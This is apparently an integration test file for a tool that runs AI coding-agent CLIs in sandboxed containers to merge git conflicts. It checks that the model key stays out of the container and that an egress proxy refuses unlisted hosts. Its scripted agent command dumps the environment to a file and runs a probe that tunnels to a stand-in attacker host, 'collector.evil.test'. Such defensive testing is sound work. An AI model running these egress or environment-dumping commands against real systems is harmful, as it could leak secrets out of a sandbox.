// forklift with the real agent CLIs (Claude Code, Codex, pi in forklift's kitchen-sink
// image, built offline) driven by the scripted model API: each merges a conflict with
// its own shell tool and the host opens the PR. The model key stays with the credential
// proxy (the model sees it; the container never does), and the egress proxy refuses a
// host off the allowlist.
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import {
  createScriptedModelServer,
  type ScriptedModelServer,
  type ScriptStep,
} from '@bb/scripted-model';
import { probeDocker } from '@bb/tooling/docker';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type ForkWorld, forkWorld, git } from './forklift-world';
import { probeKitchenSink } from './support';

const docker = await probeDocker();
const { ok: hasImage, image: IMAGE } = await probeKitchenSink(docker.ok);
const TOKEN = 'forklift-agents-token-5566778899';
const MODEL_KEY = 'sk-forklift-model-key-3c9e7a1d55';

type Cli = 'claude' | 'codex' | 'pi';
const BASH: Record<Cli, (command: string) => ScriptStep> = {
  claude: (command) => ({ tools: [{ name: 'Bash', input: { command, description: 'merge' } }] }),
  codex: (command) => ({ tools: [{ name: 'exec_command', input: { cmd: command } }] }),
  pi: (command) => ({ tools: [{ name: 'bash', input: { command } }] }),
};

/** Every file under `dir` (no links followed), for a search for the key. */
function files(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((e) => {
    const p = join(dir, e.name);
    if (e.isSymbolicLink()) return [];
    if (e.isDirectory()) return files(p);
    return e.isFile() && statSync(p).size < 8 * 1024 ** 2 ? [p] : [];
  });
}

// An egress attempt from inside, as any tool would make it: CONNECT through the bridge.
const PROBE = `node -e "const r=require('http').request({host:'127.0.0.1',port:3128,method:'CONNECT',path:'collector.evil.test:443'});r.on('connect',(res)=>{console.log(res.statusCode);process.exit(0)});r.on('response',(res)=>{console.log(res.statusCode);process.exit(0)});r.on('error',(e)=>{console.log('error',e.message);process.exit(0)});r.end()" > /harness-state/egress.txt`;

describe.skipIf(!docker.ok || !hasImage)('forklift with the real agent CLIs', () => {
  let w: ForkWorld;
  let model: ScriptedModelServer;

  beforeAll(async () => {
    w = await forkWorld({ token: TOKEN, image: IMAGE, repos: 6 });
    model = await createScriptedModelServer({ script: [{ say: 'not set yet' }] });
  });
  afterAll(async () => {
    await model?.close();
    await w?.close();
  });

  it.each(['claude', 'codex', 'pi'] as const)(
    '%s merges a conflict with its shell tool; the key never enters its container',
    async (cli) => {
      const s = await w.scenario();
      await w.commit(s.up, { 'a.txt': 'one\nTWO (upstream)\nthree\n' }, 'Upstream changes two');
      await w.commit(s.fork, { 'a.txt': 'one\ntwo (fork)\nthree\n' }, 'Fork changes two');
      model.setScript([
        BASH[cli](
          [
            'git -c user.name=Agent -c user.email=a@x merge upstream/main >/dev/null 2>&1 || true',
            "printf 'one\\nTWO (upstream) and two (fork)\\nthree\\n' > a.txt",
            'git add a.txt',
            "git -c user.name=Agent -c user.email=a@x commit -qm 'Merge upstream main'",
            `printf 'merged by ${cli}; no tests found\\n' > /harness-state/report.md`,
            'env > /harness-state/env.txt',
            PROBE,
          ].join(' && '),
        ),
        { say: 'Merged upstream main; the conflict in a.txt keeps both lines.' },
      ]);
      const before = model.requests.length;
      const { code, result, err } = await w.forklift(
        s.checkout,
        ['--agent', cli, '--model', 'scripted-model', '--timeout', '3m'],
        {
          ANTHROPIC_API_KEY: cli === 'codex' ? '' : MODEL_KEY,
          OPENAI_API_KEY: cli === 'codex' ? MODEL_KEY : '',
          FORKLIFT_MODEL_URL: model.url,
        },
      );
      expect(code, `${err}\n${JSON.stringify(result)}`).toBe(0);
      expect(result).toMatchObject({
        outcome: 'synced',
        agentRan: true,
        agent: { name: cli, ok: true },
      });
      const head = await w.gitea.issue(s.fork, result!.pr!.number).pull!.headRef;
      expect(
        await git(w.root, '--git-dir', w.gitea.git.dirOf('bot', s.name), 'show', `${head}:a.txt`),
      ).toContain('TWO (upstream) and two (fork)');
      expect(w.gitea.issue(s.fork, result!.pr!.number).body).toContain(`merged by ${cli}`);

      // The model got the key, from the proxy; the container had a placeholder.
      const mine = model.requests.slice(before);
      expect(mine.length).toBeGreaterThanOrEqual(2);
      const header = cli === 'codex' ? 'authorization' : 'x-api-key';
      expect(mine.every((r) => r.headers[header]?.includes(MODEL_KEY))).toBe(true);
      const hs = join(result!.runDir, 'harness-state');
      const env = readFileSync(join(hs, 'env.txt'), 'utf8');
      expect(env).toContain('HTTPS_PROXY=http://127.0.0.1:3128');
      for (const f of files(result!.runDir))
        expect(readFileSync(f).includes(MODEL_KEY), f).toBe(false);
      expect(err).not.toContain(MODEL_KEY);
      // A host off the allowlist is refused by the egress proxy, and the refusal logged.
      expect(readFileSync(join(hs, 'egress.txt'), 'utf8').trim()).toBe('403');
      expect(readFileSync(join(result!.runDir, 'proxy-state', 'egress.jsonl'), 'utf8')).toContain(
        'collector.evil.test',
      );
    },
    240_000,
  );

  it("an agent whose model fails leaves nothing to push: no PR, and the CLI's own error is kept", async () => {
    const s = await w.scenario();
    await w.commit(s.up, { 'a.txt': 'x\n' }, 'Upstream');
    await w.commit(s.fork, { 'a.txt': 'y\n' }, 'Fork');
    model.setScript([{ fail: 500 }]);
    const { code, result, err } = await w.forklift(
      s.checkout,
      ['--agent', 'claude', '--model', 'scripted-model', '--timeout', '3m'],
      { ANTHROPIC_API_KEY: MODEL_KEY, FORKLIFT_MODEL_URL: model.url },
    );
    expect(code, err).toBe(6);
    expect(result).toMatchObject({
      outcome: 'verification-failed',
      agent: { name: 'claude', ok: false },
      detail: expect.stringMatching(/did not merge \(the agent said: /),
    });
    expect(await w.branches(s.name)).toBe('');
  }, 240_000);

  it('refuses to start a real agent without its model key, naming the variable', async () => {
    const s = await w.scenario();
    const { code, err } = await w.forklift(s.checkout, ['--agent', 'codex'], {
      OPENAI_API_KEY: '',
    });
    expect(code).toBe(2);
    expect(err).toContain('--agent codex needs OPENAI_API_KEY');
  });
});
